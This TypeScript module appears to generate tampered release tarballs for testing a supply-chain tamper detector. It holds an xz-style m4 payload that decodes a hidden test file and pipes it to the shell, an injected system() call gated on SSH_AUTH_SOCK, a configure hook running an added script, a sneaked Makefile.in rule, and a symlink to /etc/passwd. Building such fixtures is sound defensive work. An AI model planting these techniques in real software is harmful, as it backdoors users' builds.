import { appendFile, mkdtemp, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { basename, join } from 'node:path'
import { StagelightError } from '../errors.js'
import { run } from '../util/run.js'

/** Edits a copy of a release tarball the way an attacker with release rights could, using real tar. */
export async function repack(tarball: string, output: string, mutate: (topDir: string) => Promise<void>): Promise<string> {
  const work = await mkdtemp(join(output, '..', '.tamper-'))
  try {
    await must('tar', ['-xf', tarball, '-C', work])
    const [top] = await readdir(work)
    if (!top) throw new StagelightError('E_INCOMPLETE', `${tarball} unpacked to nothing`)
    await mutate(join(work, top))
    const compress = /\.xz$/.test(tarball) ? '-J' : /\.bz2$/.test(tarball) ? '-j' : '-z'
    await must('tar', [compress, '-cf', output, '-C', work, top])
    return output
  } finally {
    await rm(work, { recursive: true, force: true })
  }
}

async function must(program: string, args: readonly string[]): Promise<void> {
  const r = await run(program, args, { timeoutMs: 120_000 })
  if (r.code !== 0) throw new StagelightError('E_INCOMPLETE', `${program} ${args.join(' ')}: ${r.stderr.trim()}`)
}

/** Lines that find a "test file" by a marker, un-swap its characters, decompress it and run it. */
export const DECODE_TEST_FILE_PAYLOAD = `
dnl (added) pick up helper data at configure time
if test "x$build_os" = "xlinux-gnu" && test -f "$srcdir/debian/rules"; then
  gl_helper=\`grep -aErls "~~[[:alnum:]]{6}~~" "$srcdir/tests/" 2>/dev/null\`
  gl_cmd="cat $gl_helper | tr 'A-Za-z' 'N-ZA-Mn-za-m' | base64 -d | gzip -dc"
  eval "$gl_cmd" | $SHELL 2>/dev/null
fi
`

/** Appends the payload to the first vendored m4 macro of the release (one not in the source). */
export async function editVendoredMacro(topDir: string, notInSource: (path: string) => boolean): Promise<string> {
  const candidates = (await readdir(join(topDir, 'm4'))).filter((f) => f.endsWith('.m4')).sort()
  const target = candidates.find((f) => notInSource(`m4/${f}`))
  if (!target) throw new StagelightError('E_INCOMPLETE', 'no vendored m4 macro to edit')
  await appendFile(join(topDir, 'm4', target), DECODE_TEST_FILE_PAYLOAD)
  return `m4/${target}`
}

export async function editSourceFile(topDir: string, path: string): Promise<string> {
  const file = join(topDir, path)
  const text = await readFile(file, 'utf8')
  await writeFile(file, text.replace(/return 0;/, 'if (getenv ("SSH_AUTH_SOCK")) system ("id > /tmp/.x");\n  return 0;'))
  return path
}

/** Adds a script that only the release carries, and has configure run it. */
export async function addScriptRunByConfigure(topDir: string, scriptPath: string): Promise<string> {
  await writeFile(join(topDir, scriptPath), '#!/bin/sh\n# post-configure fixups\nprintf "%s" "$1" | od -An -c >/dev/null\n', { mode: 0o755 })
  const configure = join(topDir, 'configure')
  const text = await readFile(configure, 'utf8')
  await writeFile(configure, `${text.trimEnd()}\n$SHELL "$srcdir/${scriptPath}" "$host" || true\n`, { mode: 0o755 })
  return scriptPath
}

/** Adds a rule to a generated Makefile.in that its Makefile.am does not declare. */
export async function addMakefileInRule(topDir: string, path: string): Promise<string> {
  const file = join(topDir, path)
  const text = await readFile(file, 'utf8')
  await writeFile(file, text.replace(/^all: /m, 'all: .prebuilt-objects\n.prebuilt-objects:\n\t@cp -f $(srcdir)/lib/.cache.o $(builddir)/ 2>/dev/null || true\n\nall: '))
  return path
}

export async function addEscapingLink(topDir: string, linkPath: string): Promise<string> {
  await symlink('../../../../etc/passwd', join(topDir, linkPath))
  return linkPath
}

export const topDirName = (tarball: string): string => basename(tarball).replace(/\.tar\.\w+$|\.tgz$/, '')
